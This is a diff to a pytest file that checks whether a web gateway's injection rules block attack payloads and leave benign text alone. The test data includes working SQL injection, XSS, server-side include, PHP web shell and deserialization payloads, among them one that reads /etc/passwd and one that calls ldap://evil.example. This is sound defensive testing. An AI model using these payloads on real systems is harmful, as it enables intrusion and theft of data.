@@ -15,8 +15,10 @@ from urllib.parse import quote
 import pytest
 import yaml
 
+from gateway import config as configmod
 from gateway.clients import ClientState
 from gateway.features import Features
+from gateway.pipeline import build
 from gateway.rules import RuleOptions, RuleTable, load
 from gateway.rules import table as table_mod
 from gateway.rules.inputs import compile_inputs, inputs_text
@@ -64,6 +66,17 @@ def shipped() -> RuleTable:
     return load([str(ROOT / "rules" / "injections.yaml"), str(ROOT / "rules" / "default.yaml")], RuleOptions(), ClientState())
 
 
+@pytest.fixture(scope="module")
+def fallback() -> RuleTable:
+    """The signatures as the shipped config's fallback rules, read value by value (as the pipeline compiles them)."""
+    rules = {"files": [str(ROOT / "rules" / "default.yaml")], "fallback_files": [str(ROOT / "rules" / "injections.yaml")]}
+    cfg = configmod.validate({"backends": {"a": {"servers": ["http://127.0.0.1:9"]}}, "rules": rules, "challenge": {"dev_generate_secret": True}},
+                             str(ROOT / "clefgate.yaml"))
+    table = build(cfg).fallback_rules
+    assert isinstance(table, RuleTable)
+    return table
+
+
 def injection_rule(table: RuleTable, f: Features) -> str | None:
     out = table.evaluate(f)
     if isinstance(out, Verdict) and out.rule and out.rule in INJECTION_RULES:
@@ -98,6 +111,10 @@ ATTACKS = [
     ("block-sql-injection", "1' AND extractvalue(1,concat(0x7e,version()))--"),
     ("block-sql-injection", "1'; WAITFOR DELAY '0:0:5'--"),
     ("block-sql-injection", "1/**/UNION/**/SELECT/**/1,2,3"),
+    ("block-sql-injection", "1 ORDER BY 5--"),
+    ("block-sql-injection", "x') GROUP BY 1-- -"),
+    ("block-sql-injection", "1); DELETE FROM users"),
+    ("block-sql-injection", "1'); INSERT INTO users (name) VALUES ('x')--"),
     ("block-xss", "<script>alert(document.cookie)</script>"),
     ("block-xss", "<img src=x onerror=alert(1)>"),
     ("block-xss", "<svg/onload=alert(1)>"),
@@ -121,6 +138,8 @@ ATTACKS = [
     ("block-template-injection", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
     ("block-code-injection", "<?php system($_GET['c']); ?>"),
     ("block-code-injection", "php://filter/convert.base64-encode/resource=index.php"),
+    ("block-code-injection", '<!--#exec cmd="/bin/cat /etc/passwd"-->'),
+    ("block-code-injection", '<!--#echo var="DOCUMENT_URI" -->'),
     ("block-code-injection", '{"__proto__": {"admin": true}}'),
     ("block-code-injection", "org.apache.commons.collections.functors.InvokerTransformer"),
     ("block-code-injection", '{"@class": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://evil.example/a"}'),
@@ -136,9 +155,11 @@ ATTACKS = [
 
 @pytest.mark.parametrize("place", sorted(PLACES))
 @pytest.mark.parametrize("rule,payload", ATTACKS, ids=[f"{r}:{p[:30]}" for r, p in ATTACKS])
-def test_attacks_are_blocked_wherever_they_are(shipped: RuleTable, rule: str, payload: str, place: str) -> None:
+def test_attacks_are_blocked_wherever_they_are(shipped: RuleTable, fallback: RuleTable, rule: str, payload: str, place: str) -> None:
     f = PLACES[place](payload)
     assert injection_rule(shipped, f) is not None  # the first matching rule blocks (several may match)
+    if rule in fallback.names:  # every rule but block-log4shell-probes (rules/scanners.yaml)
+        assert injection_rule(fallback, f) is not None  # read value by value, as the fallback rules read it
     assert rule in matching(f)
 
 
@@ -174,6 +195,9 @@ BENIGN = [
     "Tom's \"best\" picks -- reviewed",
     "Try SELECT id, name FROM users WHERE active = 1 ORDER BY name and add an index on active",
     "query is select * from orders where status = 'open' and total > 100 - is an index on status enough?",
+    "SELECT kind, count(*) FROM t GROUP BY 1;",
+    "select author, group_concat(title) from posts group by author",
+    "print('total')  # prints it",
     "use time.sleep(5) between retries",
     "Use <script defer> or async for faster pages",
     "relative imports like ../../lib/utils break when you move files",
@@ -209,9 +233,10 @@ BENIGN = [
 
 @pytest.mark.parametrize("place", sorted(PLACES))
 @pytest.mark.parametrize("text", BENIGN)
-def test_benign_text_is_left_to_the_model(shipped: RuleTable, text: str, place: str) -> None:
+def test_benign_text_is_left_to_the_model(shipped: RuleTable, fallback: RuleTable, text: str, place: str) -> None:
     f = TEXT_PLACES[place](text)
     assert injection_rule(shipped, f) is None
+    assert injection_rule(fallback, f) is None
     assert matching(f) == set()
 
 
